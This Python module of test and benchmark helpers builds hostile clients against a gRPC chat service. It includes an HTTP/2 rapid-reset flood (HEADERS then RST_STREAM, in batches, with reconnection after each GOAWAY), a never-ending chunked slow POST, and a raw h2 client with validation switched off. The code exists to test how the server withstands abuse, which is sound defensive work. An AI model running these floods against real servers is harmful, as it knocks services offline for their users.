"""Hostile clients on raw sockets: HTTP/2 floods and connections that never finish.

Used by the network-edge tests (scaled down) and by `python -m bench.edge_attacks` (full
size). Frames are written by hand where speed matters, so the attacker is not the
bottleneck on a 2-core machine.
"""

from __future__ import annotations

import socket
import struct
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0, 1, 3, 4, 7
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL, ENHANCE_YOUR_CALM = 8, 11
CHAT = "/pb.ChatService/ChatStream"


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(
        ">I", stream_id) + payload


def request_block(path: str = CHAT, token: str | None = None,
                  extra: list[tuple[bytes, bytes]] | None = None) -> bytes:
    """One HPACK header block that never touches the dynamic table, so it can be resent."""
    return hpack.Encoder().encode(
        [hpack.NeverIndexedHeaderTuple(k, v) for k, v in grpc_headers(path, token, extra)],
        huffman=False)


@dataclass
class FrameReader:
    """Reads the server's frames; remembers its SETTINGS and the GOAWAY it sent."""

    sock: socket.socket
    buffer: bytes = b""
    settings: dict[int, int] = field(default_factory=dict)
    goaway: int | None = None
    last_stream: int | None = None  # the GOAWAY's: the highest stream the server took in
    closed: bool = False

    def poll(self, wait: float = 0.0) -> None:
        self.sock.settimeout(wait if wait > 0 else 0.0001)
        while not self.closed:
            try:
                chunk = self.sock.recv(1 << 16)
            except (BlockingIOError, TimeoutError):
                break
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                break
            self.buffer += chunk
            self._parse()
            self.sock.settimeout(0.0001)

    def wait_closed(self, timeout: float) -> bool:
        """Read until the server closes the connection; False if it is still open then."""
        end = time.monotonic() + timeout
        while not self.closed and time.monotonic() < end:
            self.poll(min(0.2, max(end - time.monotonic(), 0.01)))
        return self.closed

    def _parse(self) -> None:
        while len(self.buffer) >= 9:
            size = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + size:
                return
            kind, payload = self.buffer[3], self.buffer[9:9 + size]
            self.buffer = self.buffer[9 + size:]
            if kind == SETTINGS:
                for i in range(0, len(payload), 6):
                    key, value = struct.unpack(">HI", payload[i:i + 6])
                    self.settings[key] = value
            elif kind == GOAWAY:
                self.last_stream = struct.unpack(">I", payload[:4])[0] & 0x7FFFFFFF
                self.goaway = struct.unpack(">I", payload[4:8])[0]


@dataclass
class ResetResult:
    sent: int
    goaway: int | None
    closed: bool
    max_concurrent_streams: int | None
    connections: int = 1


def rapid_reset(host: str, port: int, streams: int, token: str | None = None,
                batch: int = 100, deadline: float = 120, linger: float = 5) -> ResetResult:
    """HEADERS then RST_STREAM(CANCEL), `streams` times, on one connection; then up to
    `linger` seconds for the server to close it."""
    sock = socket.create_connection((host, port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    reader = FrameReader(sock)
    block = request_block(token=token)
    rst = struct.pack(">I", CANCEL)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    sent, stream_id, end = 0, 1, time.monotonic() + deadline
    try:
        while sent < streams and time.monotonic() < end:
            out = bytearray()
            for _ in range(min(batch, streams - sent)):
                out += frame(HEADERS, END_HEADERS, stream_id, block)
                out += frame(RST_STREAM, 0, stream_id, rst)
                stream_id += 2
                sent += 1
            sock.settimeout(10)
            sock.sendall(out)
            reader.poll()
            if reader.goaway is not None or reader.closed:
                break
        reader.wait_closed(linger)  # the server may still be working through what was sent
    except OSError:
        reader.closed = True
    finally:
        sock.close()
    return ResetResult(sent, reader.goaway, reader.closed, reader.settings.get(3))


def rapid_reset_reconnecting(host: str, port: int, streams: int, token: str | None = None,
                             deadline: float = 300) -> ResetResult:
    """rapid_reset until `streams` were sent in all, opening a new connection after each
    GOAWAY, as an attacker would; `goaway` and `closed` are the last connection's."""
    sent, connections, end = 0, 0, time.monotonic() + deadline
    result = ResetResult(0, None, False, None)
    while sent < streams and time.monotonic() < end:
        result = rapid_reset(host, port, streams - sent, token, deadline=end - time.monotonic())
        sent += result.sent
        connections += 1
    return ResetResult(sent, result.goaway, result.closed, result.max_concurrent_streams,
                       connections)


def h2_client(host: str, port: int) -> tuple[socket.socket, h2.connection.H2Connection]:
    """A connected raw h2 client that checks nothing, so it can send what it likes."""
    sock = socket.create_connection((host, port), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(
        client_side=True, header_encoding=None, validate_outbound_headers=False,
        normalize_outbound_headers=False, validate_inbound_headers=False))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def grpc_headers(path: str, token: str | None = None,
                 extra: list[tuple[bytes, bytes]] | None = None) -> list[tuple[bytes, bytes]]:
    headers = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()),
               (b":authority", b"chatms"), (b"content-type", b"application/grpc"),
               (b"te", b"trailers")]
    if token is not None:
        headers.append((b"authorization", token.encode()))
    return headers + (extra or [])


def read_until_ended(sock: socket.socket, conn: h2.connection.H2Connection, stream_id: int,
                     timeout: float = 10) -> dict[bytes, bytes] | None:
    """The stream's headers and trailers once it ends; None if the connection closes."""
    found: dict[bytes, bytes] = {}
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        sock.settimeout(max(end - time.monotonic(), 0.01))
        try:
            data = sock.recv(1 << 16)
        except TimeoutError:
            break
        if not data:
            return None
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                return None
            if getattr(event, "stream_id", None) != stream_id:
                continue
            if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                found.update(dict(event.headers))
            if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                sock.sendall(conn.data_to_send())
                return found
        sock.sendall(conn.data_to_send())
    raise TimeoutError(f"stream {stream_id} did not end within {timeout}s")


def grpc_call(port: int, path: str, body: bytes | None, *, token: str | None = None,
              extra: list[tuple[bytes, bytes]] | None = None, end: bool = True,
              sock_conn: tuple | None = None) -> tuple[dict[bytes, bytes] | None, tuple]:
    """One call over a raw h2 connection (a new one unless given): its headers and trailers
    (None if the server dropped the connection), and the connection for the next call."""
    sock, conn = sock_conn or h2_client("127.0.0.1", port)
    stream_id = conn.get_next_available_stream_id()
    conn.send_headers(stream_id, grpc_headers(path, token, extra), end_stream=body is None)
    if body is not None:
        conn.send_data(stream_id, body, end_stream=end)
    sock.sendall(conn.data_to_send())
    return read_until_ended(sock, conn, stream_id), (sock, conn)


def grpc_frame(message: bytes, declared: int | None = None) -> bytes:
    size = len(message) if declared is None else declared
    return b"\x00" + struct.pack(">I", size) + message


def slow_post(host: str, port: int, path: str) -> socket.socket:
    """A POST whose chunked body starts and never ends."""
    sock = socket.create_connection((host, port), timeout=10)
    sock.sendall(
        f"POST {path} HTTP/1.1\r\nHost: chatms\r\nTransfer-Encoding: chunked\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n\r\n5\r\nBody=".encode())
    return sock


def closed_by_server(sock: socket.socket, wait: float) -> bool:
    """True once the server has closed the connection (within `wait` seconds)."""
    end = time.monotonic() + wait
    while time.monotonic() < end:
        sock.settimeout(max(end - time.monotonic(), 0.01))
        try:
            if not sock.recv(1 << 16):
                return True
        except TimeoutError:
            return False
        except OSError:
            return True
    return False
